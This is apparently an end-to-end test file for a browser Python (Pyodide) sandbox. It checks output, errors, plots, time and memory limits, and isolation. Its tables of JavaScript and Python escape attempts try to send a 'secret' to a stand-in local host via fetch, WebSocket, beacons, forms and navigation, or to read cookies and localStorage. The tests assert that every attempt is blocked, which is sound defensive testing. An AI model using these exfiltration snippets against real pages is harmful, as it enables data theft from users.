"""The Python tool in Chromium, on a page of its own (tests/web/python-page) under a subpath.

What programs print and show comes back; and whatever runs in the sandbox reaches nothing: not the
page, no storage, no host. Walls are tried from JavaScript in the sandbox itself, which no program
is given: that is what a program has that found a way out of Python.
"""

import base64
import shutil
import urllib.request
from collections.abc import Callable, Iterator
from contextlib import ExitStack
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import Any, Final, NoReturn

import pytest
from playwright.sync_api import Frame, Page, Playwright, Worker

from tests.e2e.browser import WITHOUT_WEBGPU, open_chromium, serve_folder
from tests.e2e.commands import BUILD_TIMEOUT_SECONDS, ROOT, TRANSOM, run_checked, serve

pytestmark = [pytest.mark.slow, pytest.mark.browser]

SECONDS: Final = 120
"""That a program may take here."""
BRIEF_SECONDS: Final = 6
"""That one which takes too long has."""
PNG: Final = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
# Each gives "blocked", or what it reached.
OF_A_WORKER: Final = {
    "its own host": "await fetch(`${HOST}/v1/models?secret`); return 'reached'",
    "without an answer": "await fetch(`${HOST}/?secret`, {mode: 'no-cors'}); return 'reached'",
    "another host": "await fetch(`${OTHER}/?secret`, {mode: 'no-cors'}); return 'reached'",
    "XMLHttpRequest": """return new Promise((resolve, reject) => {
        const asked = new XMLHttpRequest();
        asked.open('GET', `${OTHER}/?secret`);
        asked.onload = () => resolve('reached');
        asked.onerror = reject;
        asked.send();
    })""",
    "importScripts": """WorkerGlobalScope.prototype.importScripts.call(self, `${OTHER}/?secret`);
        return 'reached'""",
    "import": "await import(`${OTHER}/secret.js`); return 'reached'",
    "import of its own host": "await import(`${HOST}/secret.js`); return 'reached'",
    "WebSocket": """return new Promise((resolve, reject) => {
        const socket = new WebSocket(`${OTHER}/?secret`.replace('http', 'ws'));
        socket.onopen = () => resolve('reached');
        socket.onerror = reject;
    })""",
    "EventSource": """return new Promise((resolve, reject) => {
        const source = new EventSource(`${OTHER}/?secret`);
        source.onopen = () => resolve('reached');
        source.onerror = reject;
    })""",
    "WebTransport": """const made = new WebTransport(`${OTHER}/?secret`.replace('http:', 'https:'));
        await made.ready; return 'reached'""",
    "a worker in it": """return new Promise((resolve, reject) => {
        const text = `fetch("${OTHER}/?secret", {mode: "no-cors"}).then(
            () => postMessage("reached"), () => postMessage("blocked"))`;
        const worker = new Worker(URL.createObjectURL(new Blob([text])));
        worker.onmessage = ({ data }) => resolve(data);
        worker.onerror = reject;
    })""",
    "IndexedDB": """return new Promise((resolve, reject) => {
        const asked = indexedDB.open('transom');
        asked.onsuccess = () => resolve('reached');
        asked.onerror = reject;
    })""",
    "caches": "await caches.keys(); return 'reached'",
    "files": "await navigator.storage.getDirectory(); return 'reached'",
}
OF_A_FRAME: Final = {
    "the frame around it": "return parent.document.body ? 'reached' : ''",
    "the page": "return top.python ? 'reached' : ''",
    "cookies": "return document.cookie + 'reached'",
    "local storage": "return localStorage.getItem('secret') + 'reached'",
    "another window": "return open(`${OTHER}/?secret`) === null ? 'blocked' : 'reached'",
    "the page's address": "top.location = `${OTHER}/?secret`; return 'reached'",
    "an image": """return new Promise((resolve, reject) => {
        const image = new Image();
        image.onload = () => resolve('reached');
        image.onerror = reject;
        image.src = `${OTHER}/?secret`;
    })""",
    "a frame": """const frame = document.createElement('iframe');
        frame.src = `${OTHER}/?secret`;
        document.body.append(frame);
        await new Promise((resolve) => setTimeout(resolve, 500));
        return 'blocked'""",
    "a form": """const form = document.createElement('form');
        form.action = `${OTHER}/?secret`;
        document.body.append(form);
        form.submit();
        await new Promise((resolve) => setTimeout(resolve, 500));
        return 'blocked'""",
    "a beacon": """navigator.sendBeacon(`${OTHER}/?secret`);
        await new Promise((resolve) => setTimeout(resolve, 500));
        return 'blocked'""",
}


@pytest.fixture(scope="module")
def page_build(
    tmp_path_factory: pytest.TempPathFactory, missing_tool: Callable[[str], NoReturn]
) -> Path:
    """A host's folder, with the page below it."""
    if shutil.which("npx") is None or not (ROOT / "node_modules").exists():
        missing_tool("no node_modules here: npm ci")
    run_checked(TRANSOM, "build", "pyodide", timeout=BUILD_TIMEOUT_SECONDS)
    site = tmp_path_factory.mktemp("python") / "site"
    config = ROOT / "tests/web/python-page/vite.config.ts"
    run_checked(
        "npx", "vite", "build", "--config", config, "--outDir", site / "deep/app",
        timeout=BUILD_TIMEOUT_SECONDS,
    )  # fmt: skip
    return site


@pytest.fixture(scope="module")
def stranger() -> Iterator[tuple[str, list[str]]]:
    """Another host that would answer anybody, and what it was asked."""
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.send_header("Cross-Origin-Resource-Policy", "cross-origin")
            self.send_header("Content-Type", "text/javascript")
            self.end_headers()

        do_POST = do_GET

        def log_request(self, *_: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        thread = Thread(target=server.serve_forever, daemon=True)
        thread.start()
        yield f"http://127.0.0.1:{server.server_port}", asked
        server.shutdown()
        thread.join()


@pytest.fixture(scope="module", params=["static host", "transom serve"])
def page(
    request: pytest.FixtureRequest,
    playwright: Playwright,
    chromium: str,
    page_build: Path,
    tmp_path_factory: pytest.TempPathFactory,
) -> Iterator[Page]:
    """With the policies of meta tags alone, below a folder; and with headers, isolated."""
    folder = tmp_path_factory.mktemp("visit")
    with ExitStack() as stack:
        if request.param == "static host":
            address = f"{stack.enter_context(serve_folder(page_build))}/deep/app"
        else:
            variables = {"TRANSOM_WEB_DIR": str(page_build / "deep/app")}
            store, log = folder / "models", folder / "log.txt"
            address = stack.enter_context(serve(store, log, environment=variables)).address
        context = stack.enter_context(
            open_chromium(playwright, chromium, folder / "profile", WITHOUT_WEBGPU)
        )
        page = context.new_page()
        page.goto(f"{address}/?seconds={SECONDS}")
        assert page.evaluate("crossOriginIsolated") is (request.param == "transom serve")
        page.evaluate("document.cookie = 'secret=1'; localStorage.setItem('secret', '1')")
        yield page


def run(page: Page, code: str, stop_after_ms: int | None = None) -> dict[str, Any]:
    found: dict[str, Any] = page.evaluate(
        "([code, stop]) => python.run(code, stop ?? undefined)", [code, stop_after_ms]
    )
    return found


def said(page: Page, code: str) -> str:
    found = run(page, code)
    assert "failed" not in found, found["failed"]
    return str(found["text"])


def test_output_values_and_variables(page: Page) -> None:
    assert said(page, "x = 6 * 7\nprint('hi')\nx") == "hi\n42"
    assert said(page, "x + 1") == "43"
    assert "printed nothing" in said(page, "y = 1")
    assert said(page, "import statistics, sqlite3\nstatistics.mean([1, 2])") == "1.5"
    assert said(page, "import asyncio\nawait asyncio.sleep(0.01)\n'slept'") == "'slept'"
    assert said(page, "async def five():\n    return 5\nasyncio.run(five())") == "5"


def test_errors_are_those_of_the_program(page: Page) -> None:
    text = said(page, "def f(n):\n    return 1 / n\nprint('before')\nf(0)")
    assert text.startswith('before\nTraceback (most recent call last):\n  File "<program ')
    assert text.endswith("ZeroDivisionError: division by zero")
    assert "programs.py" not in text
    assert "SyntaxError" in said(page, "1 +")
    assert "nobody to ask" in said(page, "input('?')")
    plots = said(page, "import matplotlib.pyplot as plt")
    assert "write `import plot`" in plots
    assert "there is no network" in said(page, "import requests")
    long = said(page, "for n in range(100_000): print(n)")
    assert long.startswith("0\n1\n")
    assert long.endswith("\n99998\n99999")
    assert "characters left out" in long
    assert len(long) < 9000


def test_plots_and_images_are_shown(page: Page) -> None:
    before = page.evaluate("python.seen")
    found = run(
        page,
        "import plot\n"
        "plot.plot([1, 2, 3], [1, 4, 9], label='a & <b>')\n"
        "plot.title('Squares')\nplot.show()\n"
        f"display({PNG!r})\n"
        "plot.bar(['a', 'b'], [1, 2])",
    )
    assert found["text"] == "(3 images shown)"
    kinds = [view["mediaType"] for view in found["views"]]
    assert kinds == ["image/svg+xml", "image/png", "image/svg+xml"]
    assert page.evaluate("python.seen") == before + 3
    assert base64.b64decode(found["views"][1]["base64"]) == PNG
    sizes = page.evaluate(
        """(views) => Promise.all(views.map(async ({ mediaType, base64 }) => {
            const image = new Image();
            image.src = `data:${mediaType};base64,${base64}`;
            await image.decode();
            return image.naturalWidth;
        }))""",
        found["views"],
    )
    assert sizes == [640, 1, 640]


def _sandbox(page: Page) -> tuple[Frame, Worker]:
    assert said(page, "1") == "1"
    [frame] = [frame for frame in page.frames if frame.url == "about:srcdoc"]
    [worker] = [worker for worker in page.workers if worker.url.startswith("blob:null/")]
    return frame, worker


def _attempt(where: Frame | Worker, body: str, page: Page, other: str) -> str:
    host = page.evaluate("location.origin")
    program = body.replace("${HOST}", host).replace("${OTHER}", other)
    found: str = where.evaluate(
        f"async () => {{ try {{ return await (async () => {{ {program} }})(); }} "
        "catch { return 'blocked'; } }"
    )
    return found


def test_nothing_in_the_sandbox_reaches_out(page: Page, stranger: tuple[str, list[str]]) -> None:
    other, asked = stranger
    frame, worker = _sandbox(page)
    assert worker.evaluate("origin") == frame.evaluate("origin") == "null"
    for name, body in OF_A_WORKER.items():
        assert _attempt(worker, body, page, other) == "blocked", name
    for name, body in OF_A_FRAME.items():
        assert _attempt(frame, body, page, other) == "blocked", name
    # Python's sockets are WebSockets there, and say nothing of it.
    port = int(other.rpartition(":")[2])
    said(
        page,
        f"import socket\nwith socket.create_connection(('127.0.0.1', {port})) as end:\n"
        "    end.send(b'GET /?secret HTTP/1.0\\r\\n\\r\\n')",
    )
    # Nor may it go away with what it knows: the frame around it has no addresses to allow.
    frame.evaluate("(address) => { location = address; }", f"{other}/?secret")
    page.wait_for_timeout(500)
    assert asked == []
    page.evaluate("python.tool.reset()")
    # Who is allowed to ask that host is answered.
    with urllib.request.urlopen(f"{other}/?control", timeout=60):
        assert asked == ["/?control"]
    asked.clear()
    assert said(page, "'alive'") == "'alive'"


def test_the_page_is_not_heard(page: Page) -> None:
    _, worker = _sandbox(page)
    worker.evaluate(
        """() => {
            self.heard = [];
            new BroadcastChannel('c').onmessage = ({ data }) => heard.push(data);
        }"""
    )
    page.evaluate("() => { new BroadcastChannel('c').postMessage('secret'); }")
    page.wait_for_timeout(200)
    assert worker.evaluate("heard") == []


def test_python_has_no_javascript(page: Page) -> None:
    for program in (
        "from js import fetch",
        "import js\njs.eval('1')",
        "from pyodide.code import run_js\nrun_js('fetch')",
        "import js\njs.Object.constructor('return fetch')()",
        "import urllib.request\nurllib.request.urlopen('http://127.0.0.1')",
        "from pyodide.http import pyfetch\nawait pyfetch('/')",
        "import subprocess\nsubprocess.run(['ls'])",
        "import pyodide_js\nawait pyodide_js.loadPackage('http://127.0.0.1/a.whl')\n1 / 0",
    ):
        assert "Error" in said(page, program), program


def test_a_loop_is_ended_and_a_stop_is_at_once(page: Page) -> None:
    brief = page.context.new_page()
    brief.goto(page.url.replace(f"seconds={SECONDS}", f"seconds={BRIEF_SECONDS}"))
    said(brief, "x = 1")
    found = run(brief, "print('begun')\nwhile True: pass")
    assert f"longer than {BRIEF_SECONDS} seconds" in found["failed"]
    assert found["failed"].endswith("It printed:\nbegun")
    assert "NameError" in said(brief, "x")
    brief.close()
    assert "stopped" in run(page, "while True: pass", 300)["failed"]
    assert said(page, "'alive'") == "'alive'"
    assert len([frame for frame in page.frames if frame.url == "about:srcdoc"]) == 1


def test_memory_has_an_end_and_the_page_lives(page: Page) -> None:
    assert said(page, "x = bytearray(2**31 - 100)").endswith("MemoryError")
    text = said(page, "x = []\nwhile True: x.append(bytes(100_000))")
    assert "MemoryError" in text
    assert text.endswith("the next program starts afresh.)")
    assert "NameError" in said(page, "x")
    assert "RecursionError" in said(page, "def f(): f()\nf()")


def test_another_conversation_knows_no_variables(page: Page) -> None:
    assert said(page, "secret = 1\nsecret") == "1"
    page.evaluate("python.tool.reset()")
    assert "NameError" in said(page, "secret")


@pytest.mark.parametrize("embedder", ["require-corp", "credentialless"])
def test_it_starts_where_the_host_isolates_its_pages(
    playwright: Playwright, chromium: str, page_build: Path, tmp_path: Path, embedder: str
) -> None:
    """Headers that a host sets for everything, our own policy not among them."""
    headers = {
        "Cross-Origin-Opener-Policy": "same-origin",
        "Cross-Origin-Embedder-Policy": embedder,
    }
    with (
        serve_folder(page_build, headers=headers) as address,
        open_chromium(playwright, chromium, tmp_path / "profile", WITHOUT_WEBGPU) as context,
    ):
        page = context.new_page()
        page.goto(f"{address}/deep/app/?seconds={SECONDS}")
        assert page.evaluate("crossOriginIsolated") is True
        assert said(page, "6 * 7") == "42"
        frame, worker = _sandbox(page)
        assert worker.evaluate("origin") == frame.evaluate("origin") == "null"
